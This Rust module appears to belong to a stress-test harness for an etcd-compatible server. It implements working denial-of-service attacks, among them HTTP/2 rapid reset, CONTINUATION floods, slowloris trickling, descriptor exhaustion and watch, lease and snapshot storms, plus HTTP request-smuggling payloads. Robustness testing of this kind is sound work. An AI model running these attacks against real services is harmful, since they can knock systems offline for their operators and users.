//! The attacks. Each is a function that one thread runs until it is told to stop.

use std::time::Duration;

use prost::Message;
use wire::etcdserverpb as pb;

use super::frames::*;
use super::target::Target;

/// One way to do harm.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) what: &'static str,
    pub(super) threads: usize,
    pub(super) run: fn(&Target, usize),
    /// Descriptors that the member may have; 0: as many as it likes.
    pub(super) files: u32,
}

const fn attack(name: &'static str, what: &'static str, threads: usize, run: fn(&Target, usize)) -> Attack {
    Attack { name, what, threads, run, files: 0 }
}

const PUT: &str = "/etcdserverpb.KV/Put";
const RANGE: &str = "/etcdserverpb.KV/Range";
const WATCH: &str = "/etcdserverpb.Watch/Watch";
const GRANT: &str = "/etcdserverpb.Lease/LeaseGrant";
const SNAPSHOT: &str = "/etcdserverpb.Maintenance/Snapshot";

pub(super) const ALL: &[Attack] = &[
    attack("rapid-reset", "calls begun and reset at once", 2, rapid_reset),
    attack("continuation", "a header block that never ends", 2, continuation),
    attack("settings", "SETTINGS, no acknowledgement read", 4, settings),
    attack("ping", "PING, no answer read", 4, ping),
    attack("slow-h1", "400 requests whose head comes byte by byte", 1, slow_h1),
    attack("slow-h2", "400 prefaces that come byte by byte", 1, slow_h2),
    attack("half-handshakes", "connections that begin TLS and say no more", 1, half_handshakes),
    attack("huge-headers", "header lists of 1 MiB, on HTTP/2 and HTTP/1.1", 2, huge_headers),
    attack("trickled-json", "four JSON strings of 3 MB, in pieces of 1 KiB", 4, trickled_json),
    attack("unread-ranges", "200 connections that read nothing of large ranges", 1, unread_ranges),
    attack("stalled-bodies", "10,000 puts of 1 MB whose body stops", 1, stalled_bodies),
    attack("open-calls", "100,000 calls without a message", 1, open_calls),
    attack("garbage", "random bytes on both ports", 2, garbage),
    attack("smuggling", "HTTP/1.1 requests of which two lengths can be read", 1, smuggling),
    Attack { files: 1024, ..attack("descriptors", "1,500 idle connections at ulimit -n 1024", 1, descriptors) },
    attack("watch-storm", "watches created and cancelled", 2, watch_storm),
    attack("unread-watches", "1,000 watches from revision 1, unread", 1, unread_watches),
    attack("lease-storm", "leases granted without end", 2, lease_storm),
    attack("snapshot-storm", "16 backups at once, hardly read", 1, snapshot_storm),
    attack("large-puts", "64 puts of 1.5 MB at once, again and again", 1, large_puts),
];

fn rapid_reset(target: &Target, _: usize) {
    let headers = call(PUT);
    target.flood(&hello(65_535), |turn| {
        let mut out = Vec::new();
        for n in 0..64 {
            let stream = ((turn * 64 + n) * 2 + 1) as u32 & 0x7fff_ffff;
            out.extend(frame(HEADERS, END_HEADERS, stream, &headers));
            out.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
        }
        out
    });
}

fn continuation(target: &Target, _: usize) {
    let mut first = hello(65_535);
    first.extend(frame(HEADERS, 0, 1, &call(PUT)));
    let more = frame(CONTINUATION, 0, 1, &field("x", &"y".repeat(100)).repeat(100));
    target.flood(&first, |_| more.clone());
}

fn settings(target: &Target, _: usize) {
    let more = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(200);
    target.flood(&hello(65_535), |_| more.clone());
}

fn ping(target: &Target, _: usize) {
    let more = frame(PING, 0, 0, &[7; 8]).repeat(200);
    target.flood(&hello(65_535), |_| more.clone());
}

/// Many connections, each of which gets the next byte of `text` in turn.
fn trickle(target: &Target, connections: usize, text: &[u8]) {
    let mut open: Vec<_> = (0..connections).filter_map(|_| target.connect()).collect();
    let mut at = 0;
    while target.goes_on() {
        let byte = [text[at % text.len()]];
        open.retain_mut(|socket| target.write(socket, &byte).is_ok());
        at += 1;
        target.count(open.len() as u64);
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn slow_h1(target: &Target, _: usize) {
    trickle(target, 400, b"GET /health HTTP/1.1\r\nHost: a\r\nX-Long: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
}

fn slow_h2(target: &Target, _: usize) {
    trickle(target, 400, PREFACE);
}

fn half_handshakes(target: &Target, _: usize) {
    let mut open = Vec::new();
    while target.goes_on() {
        if let Some(mut socket) = target.connect() {
            // The head of a ClientHello.
            let _ = target.write(&mut socket, &[0x16, 3, 1, 2, 0, 1, 0, 1]);
            target.count(1);
            open.push(socket);
        }
        if open.len() >= 2_000 {
            open.clear();
        }
    }
}

fn huge_headers(target: &Target, thread: usize) {
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        if thread == 0 {
            let mut out = hello(65_535);
            out.extend(frame(HEADERS, 0, 1, &call(PUT)));
            let more = field("x", &"y".repeat(100)).repeat(100);
            (0..100).for_each(|_| out.extend(frame(CONTINUATION, 0, 1, &more)));
            out.extend(frame(CONTINUATION, END_HEADERS, 1, &[]));
            let _ = target.write(&mut socket, &out);
        } else {
            let text = format!("GET /health HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "y".repeat(1 << 20));
            let _ = target.write(&mut socket, text.as_bytes());
        }
        target.drain(&mut socket, 1 << 20);
        target.count(1);
    }
}

fn trickled_json(target: &Target, _: usize) {
    let head = b"POST /v3/watch HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1a\r\n{\"create_request\":{\"key\":\"\r\n";
    let mut piece = format!("{:x}\r\n", 1024).into_bytes();
    piece.extend([b'a'; 1024]);
    piece.extend(b"\r\n");
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        let _ = target.write(&mut socket, head);
        for _ in 0..2_900 {
            if !target.goes_on() || target.write(&mut socket, &piece).is_err() {
                break;
            }
            target.count(1);
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}

fn everything(from: i64) -> pb::RangeRequest {
    pb::RangeRequest {
        key: b"data/".to_vec().into(),
        range_end: b"data0".to_vec().into(),
        limit: from,
        ..Default::default()
    }
}

fn unread_ranges(target: &Target, _: usize) {
    let mut request = hello(0x7fff_ffff);
    request.extend(whole(1, RANGE, &message(&everything(0))));
    let mut open = Vec::new();
    for _ in 0..200 {
        let Some(mut socket) = target.connect() else { continue };
        let _ = target.write(&mut socket, &request);
        target.count(1);
        open.push(socket);
    }
    target.hold(open);
}

fn stalled_bodies(target: &Target, _: usize) {
    let headers = call(PUT);
    // The head of a message of 1 MB, and little of it.
    let mut begun = vec![0];
    begun.extend((1_u32 << 20).to_be_bytes());
    begun.extend([b'x'; 1024]);
    let mut open = Vec::new();
    for _ in 0..100 {
        let Some(mut socket) = target.connect() else { continue };
        let mut out = hello(65_535);
        for n in 0..100 {
            out.extend(frame(HEADERS, END_HEADERS, 2 * n + 1, &headers));
            out.extend(frame(DATA, 0, 2 * n + 1, &begun));
        }
        let _ = target.write(&mut socket, &out);
        target.count(100);
        open.push(socket);
    }
    target.hold(open);
}

fn open_calls(target: &Target, _: usize) {
    let headers = call(PUT);
    let mut open = Vec::new();
    for _ in 0..50 {
        let Some(mut socket) = target.connect() else { continue };
        let mut out = hello(65_535);
        (0..2_000).for_each(|n| out.extend(frame(HEADERS, END_HEADERS, 2 * n + 1, &headers)));
        let _ = target.write(&mut socket, &out);
        target.count(2_000);
        open.push(socket);
        if !target.goes_on() {
            break;
        }
    }
    target.hold(open);
}

fn garbage(target: &Target, thread: usize) {
    let port = if thread == 0 { target.client_port } else { target.peer_port };
    let mut seed = 88_172_645_463_325_252_u64 + thread as u64;
    while target.goes_on() {
        let Some(mut socket) = target.connect_to(port) else { continue };
        let mut noise: Vec<u8> = Vec::with_capacity(4096);
        while noise.len() < 4096 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            noise.extend(seed.to_le_bytes());
        }
        let begin: &[u8] = match seed % 4 {
            0 => PREFACE,
            1 => b"\xf5kvorum\n",
            2 => b"POST /v3/kv/put HTTP/1.1\r\n",
            _ => b"",
        };
        let _ = target.write(&mut socket, begin);
        let _ = target.write(&mut socket, &noise);
        target.count(1);
    }
}

fn smuggling(target: &Target, _: usize) {
    let inner = "GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
    let length = inner.len();
    let forms = [
        format!(
            "POST /v3/kv/range HTTP/1.1\r\nHost: a\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
        ),
        format!(
            "POST /v3/kv/range HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: {length}\r\n\r\n{inner}"
        ),
        format!(
            "POST /v3/kv/range HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}"
        ),
        format!("POST /v3/kv/range HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}"),
        format!("POST /v3/kv/range HTTP/1.1\r\nHost: a\r\nContent-Length: +{length}\r\n\r\n{inner}"),
        format!("POST /v3/kv/range HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\nContent-Length: 0\r\n\r\n{inner}"),
        format!("POST /v3/kv/range HTTP/1.1\nHost: a\nContent-Length: 0\n\n{inner}"),
    ];
    for form in forms.iter().cycle() {
        if !target.goes_on() {
            break;
        }
        let Some(mut socket) = target.connect() else { continue };
        let _ = target.write(&mut socket, form.as_bytes());
        target.drain(&mut socket, 16 << 10);
        target.count(1);
    }
}

fn descriptors(target: &Target, _: usize) {
    let open: Vec<_> = (0..1_500).filter_map(|_| target.connect()).collect();
    target.count(open.len() as u64);
    target.hold(open);
}

fn create(key: String, revision: i64) -> Vec<u8> {
    let create =
        pb::WatchCreateRequest { key: key.into_bytes().into(), start_revision: revision, ..Default::default() };
    let union = pb::watch_request::RequestUnion::CreateRequest(create);
    message(&pb::WatchRequest { request_union: Some(union) })
}

fn watch_storm(target: &Target, _: usize) {
    let mut first = hello(0x7fff_ffff);
    first.extend(frame(HEADERS, END_HEADERS, 1, &call(WATCH)));
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        let mut fine = target.write(&mut socket, &first).is_ok();
        let mut id = 1;
        while fine && target.goes_on() {
            let mut out = Vec::new();
            for _ in 0..100 {
                out.extend(frame(DATA, 0, 1, &create(format!("storm/{id}"), 0)));
                let cancel = pb::WatchCancelRequest { watch_id: id };
                let union = pb::watch_request::RequestUnion::CancelRequest(cancel);
                out.extend(frame(DATA, 0, 1, &message(&pb::WatchRequest { request_union: Some(union) })));
                id += 1;
            }
            fine = target.write(&mut socket, &out).is_ok() && target.drain(&mut socket, 64 << 10);
            target.count(100);
        }
    }
}

fn unread_watches(target: &Target, _: usize) {
    let create = pb::WatchCreateRequest {
        key: b"data/".to_vec().into(),
        range_end: b"data0".to_vec().into(),
        start_revision: 1,
        ..Default::default()
    };
    let union = pb::watch_request::RequestUnion::CreateRequest(create);
    let create = message(&pb::WatchRequest { request_union: Some(union) });
    let mut open = Vec::new();
    for _ in 0..100 {
        let Some(mut socket) = target.connect() else { continue };
        let mut out = hello(65_535);
        for n in 0..10 {
            out.extend(frame(HEADERS, END_HEADERS, 2 * n + 1, &call(WATCH)));
            out.extend(frame(DATA, 0, 2 * n + 1, &create));
        }
        let _ = target.write(&mut socket, &out);
        target.count(10);
        open.push(socket);
    }
    target.hold(open);
}

fn lease_storm(target: &Target, _: usize) {
    let grant = message(&pb::LeaseGrantRequest { ttl: 3_600, id: 0 });
    while target.goes_on() {
        let Some(mut socket) = target.connect() else { continue };
        let mut fine = target.write(&mut socket, &hello(0x7fff_ffff)).is_ok();
        let mut stream = 1;
        while fine && target.goes_on() {
            let mut out = Vec::new();
            for _ in 0..100 {
                out.extend(whole(stream, GRANT, &grant));
                stream += 2;
            }
            fine = target.write(&mut socket, &out).is_ok() && target.drain(&mut socket, 16 << 10);
            target.count(100);
        }
    }
}

fn snapshot_storm(target: &Target, _: usize) {
    let mut open = Vec::new();
    for _ in 0..16 {
        let Some(mut socket) = target.connect() else { continue };
        let mut out = hello(65_535);
        out.extend(whole(1, SNAPSHOT, &message(&pb::SnapshotRequest::default())));
        let _ = target.write(&mut socket, &out);
        target.count(1);
        open.push(socket);
    }
    while target.goes_on() {
        open.retain_mut(|socket| target.drain(socket, 1024));
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn large_puts(target: &Target, _: usize) {
    let put = |n: u32| pb::PutRequest {
        key: format!("large/{n}").into_bytes().into(),
        value: vec![b'x'; 1_500_000].into(),
        ..Default::default()
    };
    let mut calls: Vec<Vec<u8>> = Vec::new();
    for n in 0..64 {
        let mut out = hello(0x7fff_ffff);
        let mut bytes = vec![0];
        let body = put(n).encode_to_vec();
        bytes.extend((body.len() as u32).to_be_bytes());
        bytes.extend(body);
        out.extend(whole(1, PUT, &bytes));
        calls.push(out);
    }
    while target.goes_on() {
        std::thread::scope(|scope| {
            for out in &calls {
                scope.spawn(|| {
                    let Some(mut socket) = target.connect() else { return };
                    if target.write(&mut socket, out).is_ok() {
                        target.drain(&mut socket, 64);
                        target.count(1);
                    }
                });
            }
        });
    }
}
